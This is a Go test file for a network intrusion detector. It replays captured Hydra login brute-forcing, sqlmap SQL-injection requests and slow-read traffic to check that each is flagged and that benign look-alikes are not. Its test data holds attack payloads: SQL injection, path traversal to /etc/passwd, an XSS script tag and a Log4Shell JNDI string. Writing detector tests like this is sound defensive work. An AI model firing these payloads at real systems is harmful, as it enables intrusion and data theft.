package traffic

import (
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"

	"tend/inventory"
)

// Real bytes from review 36a's captures (hydra_http_form, sqlmap): hydra's
// POST and Python http.server's answer to it.
const (
	hydraPost = "POST /login HTTP/1.0\r\nHost: 10.0.0.30\r\nUser-Agent: Mozilla/5.0 (Hydra)\r\nContent-Length: %d\r\n" +
		"Content-Type: application/x-www-form-urlencoded\r\n\r\n%s"
	pyFailed = "HTTP/1.1 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\nDate: Mon, 07 Dec 2026 04:33:38 GMT\r\n" +
		"Content-Type: text/html\r\nContent-Length: 38\r\n\r\n<html><body>Login failed</body></html>"
	pyRedirect = "HTTP/1.1 302 Found\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\nLocation: /home\r\nSet-Cookie: sid=9f8e7d6c\r\nContent-Length: 0\r\n\r\n"
	sqlmapGet  = "GET /index.html?id=1%%27%%29%%29%%20AND%%20%%28SELECT%%20%d%%20FROM%%20%%28SELECT%%28SLEEP%%285%%29%%29%%29cYgD%%29%%20AND%%20%%28%%28%%27eLiT%%27%%3D%%27eLiT&cat=2 HTTP/1.1\r\n" +
		"Host: 10.0.0.30\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\nAccept: */*\r\nConnection: close\r\n\r\n"
)

func form(body string) []byte { return []byte(fmt.Sprintf(hydraPost, len(body), body)) }

// login feeds one POST from client on its own connection and the server's answer.
func login(t *testing.T, r *rig, at time.Time, client net.HardwareAddr, cip string, port uint16, req []byte, answer string) {
	psh := tcpFlags{ack: true, psh: true}
	r.feed(at, tcpFrame(t, client, cip, port, nasMAC, "10.0.0.30", 80, psh, req))
	r.feed(at.Add(2*time.Millisecond), tcpFrame(t, nasMAC, "10.0.0.30", 80, client, cip, port, psh, []byte(answer)))
}

// TestWebFormGuessing (review 36a P2): hydra's http-post-form, each guess
// answered 200 "Login failed", is password guessing; a person's wrong
// password, a saved login re-sent, a JSON client without a password field
// and logins answered otherwise (302: they worked) are not.
func TestWebFormGuessing(t *testing.T) {
	for _, c := range []struct {
		name string
		body func(i int) string
		ans  func(i int) string
		n    int
		want int
	}{
		{"hydra, 40 passwords", func(i int) string { return fmt.Sprintf("user=admin&pass=pass%d", i) }, func(int) string { return pyFailed }, 40, 1},
		{"JSON login, 40 passwords", func(i int) string { return fmt.Sprintf(`{"username":"admin","password":"Winter%d!"}`, i) }, func(int) string { return pyFailed }, 40, 1},
		{"three wrong passwords", func(i int) string { return fmt.Sprintf("user=alice&pass=Tr0ub4dor%d", i) }, func(int) string { return pyFailed }, 3, 0},
		{"a saved login re-sent 40 times", func(int) string { return "user=alice&pass=Tr0ub4dor%263" }, func(int) string { return pyFailed }, 40, 0},
		{"JSON telemetry, 60 POSTs", func(i int) string { return fmt.Sprintf(`{"device":"th-%d","temp":21.5,"token":"abc"}`, i) }, func(int) string { return pyFailed }, 60, 0},
		{"40 users' logins that worked", func(i int) string { return fmt.Sprintf("user=u%d&pass=p%d", i, i) }, func(i int) string {
			if i == 0 {
				return pyFailed
			}
			return pyRedirect
		}, 40, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := newRig(t, Config{})
			for i := range c.n {
				login(t, r, t0.Add(time.Duration(i)*100*time.Millisecond), evilMAC, "10.0.0.66", uint16(42000+i), form(c.body(i)), c.ans(i))
			}
			evs := r.of(inventory.EventBruteForce)
			if len(evs) != c.want {
				t.Fatalf("%d brute_force events, want %d: %v", len(evs), c.want, evs)
			}
			if c.want == 0 {
				return
			}
			ev := evs[0]
			if ev.Severity != inventory.SeverityHigh || ev.MAC.String() != evilMAC.String() || ev.TargetIP.String() != "10.0.0.30" ||
				!strings.Contains(ev.Summary, "HTTP form login to /login") || !strings.Contains(ev.Summary, fmt.Sprintf("%d failed logins", c.n)) {
				t.Errorf("event %+v: want High, evil's MAC, the NAS, /login and %d failed logins", ev, c.n)
			}
		})
	}
}

func TestPasswordValue(t *testing.T) {
	for _, c := range []struct{ body, want string }{
		{"user=admin&pass=pass4", "pass4"},
		{"username=a&password=x%26y", "x%26y"},
		{"j_username=a&j_password=s3cret", "s3cret"},
		{"user%5Bemail%5D=a&user%5Bpassword%5D=hunter2", "hunter2"},
		{"login=a&pwd=1", "1"},
		{"card=1&pin=1234", "1234"},
		{"client_id=a&client_secret=zz", "zz"},
		{`{"user": "a", "passwd": "x"}`, "x"},
		{`{"user":"a","pin":4321}`, "4321"},
		{"user=a&pass=", ""},
		{`{"device":"th-1","temp":21.5}`, ""},
		{"q=spin+class&page=2", ""},
		{`{"password":null}`, ""},
	} {
		v, ok := passwordValue([]byte(c.body))
		if string(v) != c.want || ok != (c.want != "") {
			t.Errorf("passwordValue(%q) = %q, %v; want %q", c.body, v, ok, c.want)
		}
	}
}

// TestWebAttack (review 36a P2): sqlmap's requests are a web attack; one
// pasted injection, or the same one reloaded, is not.
func TestWebAttack(t *testing.T) {
	for _, c := range []struct {
		name     string
		distinct int
		n        int
		want     int
	}{
		{"sqlmap, 30 payloads", 30, 30, 1},
		{"one pasted query", 1, 1, 0},
		{"one query reloaded 40 times", 1, 40, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := newRig(t, Config{})
			for i := range c.n {
				req := fmt.Sprintf(sqlmapGet, 5801+i%c.distinct)
				login(t, r, t0.Add(time.Duration(i)*50*time.Millisecond), evilMAC, "10.0.0.66", uint16(43000+i), []byte(req), pyFailed)
			}
			evs := r.of(inventory.EventWebAttack)
			if len(evs) != c.want {
				t.Fatalf("%d web_attack events, want %d: %v", len(evs), c.want, evs)
			}
			if c.want == 1 && (evs[0].Severity != inventory.SeverityHigh || evs[0].MAC.String() != evilMAC.String() || !strings.Contains(evs[0].Summary, "SQL injection")) {
				t.Errorf("event %+v: want High, evil's MAC, SQL injection", evs[0])
			}
		})
	}
}

func TestWebAttackMatch(t *testing.T) {
	var buf [webAttackRead]byte
	for _, c := range []struct {
		s    string
		want uint8
	}{
		{"/index.html?id=1&cat=2", 0},
		{"/search?q=union+station+select+seats", 0},
		{"/static/app.3f2a.js", 0},
		{"/favicon.ico", 0},
		{"/view?file=/etc/passwd", 2},
		{"/item?id=1%20UNION%20ALL%20SELECT%20NULL--", 1},
		{"/item?id=1/**/union/**/select/**/1", 1},
		{"/item?id=1'+OR+'1'='1", 1},
		{"/item?id=1%27%20AND%20SLEEP%285%29", 1},
		{"/cgi-bin/..%2f..%2f..%2fetc%2fpasswd", 2},
		{"/download?file=..\\..\\windows\\win.ini", 2},
		{"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 4},
		{"/?x=${jndi:ldap://10.0.0.66/a}", 8},
	} {
		if got := webAttackMatch(&buf, []byte(c.s)); got != c.want {
			t.Errorf("webAttackMatch(%q) = %b, want %b", c.s, got, c.want)
		}
	}
	if n := testing.AllocsPerRun(100, func() { webAttackMatch(&buf, []byte("/item?id=1%27%20AND%20SLEEP%285%29")) }); n != 0 {
		t.Errorf("webAttackMatch: %v allocations", n)
	}
}

// zeroAck is a client's ACK advertising a zero window.
func zeroAck(t *testing.T, cport uint16) []byte {
	ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, SrcIP: ip4("10.0.0.66"), DstIP: ip4("10.0.0.30")}
	tcp := &layers.TCP{SrcPort: layers.TCPPort(cport), DstPort: 80, ACK: true, Window: 0}
	tcp.SetNetworkLayerForChecksum(ip)
	return serialize(t, &layers.Ethernet{SrcMAC: evilMAC, DstMAC: nasMAC, EthernetType: layers.EthernetTypeIPv4}, ip, tcp, gopacket.Payload(nil))
}

// TestSlowRead (review 36a P4): slowhttptest -X's connections each answer
// the server's window probes with a zero window again; a stalled download
// does so on one connection, and a zero window once is a full buffer
// briefly.
func TestSlowRead(t *testing.T) {
	for _, c := range []struct {
		name        string
		conns, acks int
		want        inventory.Severity
	}{
		{"120 connections held", 120, 6, inventory.SeverityHigh},
		{"30 connections held", 30, 3, inventory.SeverityMedium},
		{"one stalled download", 1, 60, ""},
		{"40 connections, one zero window each", 40, 1, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := newRig(t, Config{})
			for a := range c.acks {
				for i := range c.conns {
					at := t0.Add(time.Duration(a)*time.Second + time.Duration(i)*5*time.Millisecond)
					r.feed(at, tcpFrame(t, nasMAC, "10.0.0.30", 80, evilMAC, "10.0.0.66", uint16(40000+i), tcpFlags{ack: true}, nil))
					r.feed(at.Add(time.Millisecond), zeroAck(t, uint16(40000+i)))
				}
			}
			evs := r.of(inventory.EventSlowHTTP)
			if c.want == "" {
				if len(evs) != 0 {
					t.Fatalf("%d slow_http events, want none: %v", len(evs), evs)
				}
				return
			}
			if len(evs) != 1 || evs[0].Severity != c.want || evs[0].MAC.String() != evilMAC.String() || evs[0].TargetIP.String() != "10.0.0.30" ||
				!strings.Contains(evs[0].Summary, "slow read") {
				t.Fatalf("events %v: want one %s slow read naming evil and the NAS", evs, c.want)
			}
		})
	}
}
